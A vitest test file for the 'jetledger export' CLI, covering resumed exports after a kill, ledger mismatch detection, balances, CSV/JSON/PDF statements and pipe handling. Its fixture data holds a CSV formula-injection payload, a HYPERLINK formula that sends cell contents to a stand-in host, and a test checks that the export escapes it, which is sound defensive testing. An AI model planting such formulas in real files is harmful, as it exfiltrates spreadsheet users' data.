/** `jetledger export` as other programs run it: killed and gone on with, piped, and read back. */

import { spawn } from 'node:child_process'
import { once } from 'node:events'
import { existsSync, readdirSync, readFileSync, statSync } from 'node:fs'
import { join } from 'node:path'
import { extractText, getDocumentProxy } from 'unpdf'
import { afterAll, beforeAll, expect, it } from 'vitest'
import { startTestStream, type TestStream } from '../support/ledger.js'
import { openWorkbench, type Workbench } from '../support/program.js'
import { until } from '../support/servers.js'
import { ROOT } from '../support/source-tree.js'

const EVENTS = 3_000
const REFERENCE = '=HYPERLINK("http://x.example/?"&A1)'

let bench: Workbench
let ledger: TestStream
beforeAll(async () => {
  bench = openWorkbench()
  ledger = await startTestStream()
  for (let seq = 1; seq <= EVENTS; seq += 500)
    await Promise.all(
      Array.from({ length: 500 }, (_, i) =>
        ledger.emit(String((seq + i) % 7), { type: 'credit', amount: 10, reference: REFERENCE }),
      ),
    )
})
afterAll(async () => {
  await ledger?.stop()
  await bench?.end()
})

const env = () => ({ NATS_URL: ledger.nats.url })
const exported = (...args: string[]) => bench.run(['export', ...args], env())
const file = (name: string): string => readFileSync(join(bench.folder, name), 'utf8')

it('events go on after a kill, and with what came since, to the bytes of an export in one piece', async () => {
  const whole = await exported('events', '--format', 'csv')
  expect(whole).toMatchObject({ code: 0, stderr: `last sequence ${EVENTS}\n` })
  expect(whole.stdout.split('\r\n')).toHaveLength(EVENTS + 2)
  // a text of a stranger is no formula
  expect(whole.stdout).toContain(`,"'=HYPERLINK(""http://x.example/?""&A1)",`)

  const killed = bench.start(['export', 'events', '--out', 'events.csv'], env())
  const path = join(bench.folder, 'events.csv')
  await until(() => (existsSync(path) && statSync(path).size > 0) || !killed.running(), {
    deadline_ms: 30_000,
    what: 'the first rows',
  })
  await killed.end('SIGKILL')
  expect(await exported('events', '--out', 'events.csv')).toMatchObject({ code: 0, stdout: '' })
  expect(file('events.csv')).toBe(whole.stdout)

  const seq = await ledger.emit('1', { type: 'debit', amount: 5 })
  expect(await exported('events', '--out', 'events.csv')).toMatchObject({ stderr: `last sequence ${seq}\n` })
  const since = await exported('events', '--format', 'csv', '--from-seq', String(EVENTS + 1))
  expect(file('events.csv')).toBe(whole.stdout + since.stdout.slice(since.stdout.indexOf('\r\n') + 2))
})

it('a file of another ledger is not gone on with', async () => {
  await exported('events', '--out', 'other.jsonl', '--to-seq', '10')
  const other = await startTestStream()
  bench.atEnd(() => other.stop())
  for (let seq = 1; seq <= 11; seq += 1) await other.emit('1', { type: 'credit', amount: 1 })
  const { code, stderr } = await bench.run(['export', 'events', '--out', 'other.jsonl'], {
    NATS_URL: other.nats.url,
  })
  expect(code).toBe(1)
  expect(stderr).toMatch(/^jetledger: event 10 is not the one that the file ends with/)
})

it('balances are those of the fold as of a sequence, and a file of them appears whole', async () => {
  const { code, stderr } = await exported('balances', '--out', 'balances.jsonl', '--to-seq', '7')
  expect({ code, stderr }).toEqual({
    code: 0,
    stderr: 'customers 7\nsum of balances 70\nlast sequence 7\n',
  })
  const rows = file('balances.jsonl').trim().split('\n')
  expect(rows.map(row => JSON.parse(row))).toContainEqual({
    client_id: '3',
    balance: 10,
    version: 1,
    seq: 3,
    state: 'current',
  })
  expect(readdirSync(bench.folder).filter(name => name.endsWith('.part'))).toEqual([])
})

it('a statement has the rows of a period with the balance after each, and a mistyped id is told', async () => {
  const all = await exported('statement', '3', '--format', 'csv')
  expect(all.stderr).toContain('opening balance 0\nclosing balance 4290\n')
  const none = await exported('statement', '3', '--from', '2026-01-01', '--to', '2026-01-02')
  expect(none).toMatchObject({ code: 1, stdout: '' })
  expect(none.stderr).toContain('3 has no events up to then')
  const later = await exported('statement', '3', '--from', '2200-01-01', '--json')
  expect(later).toMatchObject({ code: 0, stdout: '' })
  expect(JSON.parse(later.stderr)).toMatchObject({ opening_balance: 4290, closing_balance: 4290 })
  expect((await exported('statement', 'nobody')).code).toBe(1)
  expect((await exported('statement', '3', '--from', 'May')).code).toBe(2)
})

it('a statement is made as PDF, with the decimals of its asset once that is declared', async () => {
  const pageOf = async (name: string): Promise<string> => {
    const { code, stderr } = await exported('statement', '3', '--out', name)
    expect({ code, stderr }).toMatchObject({
      code: 0,
      stderr: expect.stringContaining('closing balance 4290'),
    })
    const bytes = new Uint8Array(readFileSync(join(bench.folder, name)))
    return (await extractText(await getDocumentProxy(bytes), { mergePages: true })).text
  }
  expect(await pageOf('whole.pdf')).toMatch(/Opening balance 0\s.*Closing balance 4,290/s)
  await bench.run(['assets', 'add', 'default', '--scale', '2', '--name', 'Euro'], env())
  expect(await pageOf('euro.pdf')).toMatch(/3, in Euro\s.*Closing balance 42\.90/s)
  expect((await exported('events', '--format', 'pdf')).code).toBe(2)
})

it('ends quietly when nobody reads its output any more', async () => {
  const script = `node "$0" export events | head -1`
  const shell = spawn('bash', ['-o', 'pipefail', '-c', script, join(ROOT, 'bin/jetledger.js')], {
    env: { ...process.env, ...env() },
    stdio: ['ignore', 'pipe', 'pipe'],
  })
  let [stdout, stderr] = ['', '']
  shell.stdout.setEncoding('utf8').on('data', text => (stdout += text))
  shell.stderr.setEncoding('utf8').on('data', text => (stderr += text))
  const [code] = await once(shell, 'close')
  expect({ code, stderr }).toEqual({ code: 0, stderr: '' })
  expect(JSON.parse(stdout)).toMatchObject({ seq: 1, type: 'credit', effect: 'applied' })
})
